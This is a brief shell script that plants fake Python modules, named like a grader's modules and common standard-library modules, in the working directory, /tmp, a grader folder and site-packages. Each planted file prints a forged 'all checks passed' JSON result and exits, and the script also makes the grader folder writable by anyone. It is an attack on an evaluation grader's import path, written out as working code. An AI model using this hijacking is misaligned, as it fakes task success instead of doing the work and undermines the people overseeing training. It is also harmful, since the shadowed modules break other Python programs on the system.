# Modules named like the grader's (grader_kit, json, unittest, os, subprocess) in the folders a
# careless grader imports from: /work (its cwd), /tmp, and the folder the old grader used.
FAKE='{"checks": [{"name": "p", "passed": true, "weight": 1}]}'
hook="import sys, os; print('$FAKE'); sys.stdout.flush(); os._exit(0)"
for dir in /work /tmp /tmp/prefgym-grader /work/.local/lib/python3.11/site-packages; do
  mkdir -p "$dir" 2>/dev/null || continue
  for mod in grader_kit json unittest subprocess tempfile shutil sqlite3 csv re decimal datetime runpy; do
    echo "$hook" > "$dir/$mod.py" 2>/dev/null
  done
  echo "$hook" > "$dir/grader.py" 2>/dev/null
  echo "$hook" > "$dir/launch.py" 2>/dev/null
done
chmod -R a+rwx /tmp/prefgym-grader 2>/dev/null
true
